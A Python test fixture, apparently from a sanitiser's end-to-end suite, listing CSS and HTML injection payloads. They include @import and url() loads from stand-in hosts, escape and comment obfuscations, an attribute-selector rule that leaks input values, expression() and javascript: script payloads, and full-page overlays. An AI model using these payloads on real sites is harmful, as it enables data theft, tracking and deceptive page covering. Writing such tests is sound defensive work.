"""Style sheets and style attributes that would load something, cover the page or tell of it."""

from tests.e2e.corpus.markup import AT

_RULES = {
    "import": f"@import '{AT}/a.css';",
    "import by url": "@import url(//evil.invalid/a.css);",
    "import in capitals": f"@IMPORT URL({AT}/a.css);",
    "import with an escape": f"@\\69mport '{AT}/a.css';",
    "font": f"@font-face{{font-family:x;src:url({AT}/f.woff2)}} *{{font-family:x}}",
    "background": f"*{{background:url({AT}/b.png)!important}}",
    "image set": f"*{{background:image-set('{AT}/b.png' 1x)}}",
    "cross fade": f"*{{background:-webkit-cross-fade(url({AT}/a),url({AT}/b),50%)}}",
    "content": f"*::before{{content:url({AT}/c.png)}}",
    "cursor": f"*{{cursor:url({AT}/c.cur),auto}}",
    "list style": f"li{{list-style:url({AT}/l.png)}}",
    "filter": f"*{{filter:url({AT}/f.svg#x)}}",
    "token by selector": f"input[value^=a]{{background:url({AT}/a)}} meta[content^=b]{{background:url({AT}/b)}}",
    "everything gone": "*{display:none!important}",
    "everything elsewhere": ".dock{position:fixed;inset:0;z-index:9999}",
    "namespace": f"@namespace url({AT});*{{color:red}}",
    "keyframes": f"@keyframes x{{to{{background:url({AT}/k)}}}}*{{animation:x 1s}}",
    "property": f"@property --x{{syntax:'<url>';inherits:true;initial-value:url({AT}/p)}}",
    "behaviour": f"*{{behavior:url({AT}/x.htc);-moz-binding:url({AT}/x.xml#x)}}",
    "expression": "*{width:expression(window.pwned=1)}",
}
_DECLARATIONS = {
    "cover": "position:fixed;inset:0;background:red;z-index:2147483647",
    "cover from where it stands": "position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px",
    "cover by a margin": "margin:-5000px;padding:5000px",
    "cover by a transform": "transform:scale(9999)",
    "cover by a shadow": "box-shadow:0 0 0 9999px red",
    "cover by an outline": "outline:9999px solid red",
    "sticky": "position:sticky;top:0;height:100vh",
    "background": f"background:url({AT}/b.png)",
    "background with an escape": "background:\\75rl(//evil.invalid/b.png)",
    "background with a comment": f"background:ur/**/l({AT}/b.png)",
    "mask": f"mask:url({AT}/m.svg#x)",
    "shape": f"shape-outside:url({AT}/s.png)",
    "expression": "width:expression(window.pwned=1)",
    "expression with a comment": "width:exp/**/ression(window.pwned=1)",
    "script": "background:url(javascript:window.pwned=1)",
    "direction": "direction:rtl;unicode-bidi:bidi-override",
    "invisible": "opacity:0;position:fixed;inset:0",
    "top layer": "overlay:auto;anchor-name:--x;position-anchor:--x",
}
STYLES = (
    {f"rule: {name}": f"<style>{rule}</style>" for name, rule in _RULES.items()}
    | {f"attribute: {name}": f'<div style="{style}">over everything</div>' for name, style in _DECLARATIONS.items()}
    | {
        "sheet from elsewhere": f"<link rel=stylesheet href={AT}/x.css>",
        "sheet of data": "<link rel=stylesheet href='data:text/css,*{display:none}'>",
        "sheet in a header": f"<meta http-equiv=Link content='<{AT}/x.css>; rel=stylesheet'>",
        "sheet that is preloaded": f"<link rel=preload as=style href={AT}/x.css onload=this.rel='stylesheet'>",
        "table with a side": "| a |\n|:-:|\n| <td style='position:fixed;inset:0' align=center background=//evil.invalid/t.png>x |",
        "background attribute": f"<table background={AT}/t.png><tr><td background={AT}/d.png>x</table>",
        "font tag": "<font size=7 color=red style='font-size:9999px'>x</font>",
    }
)
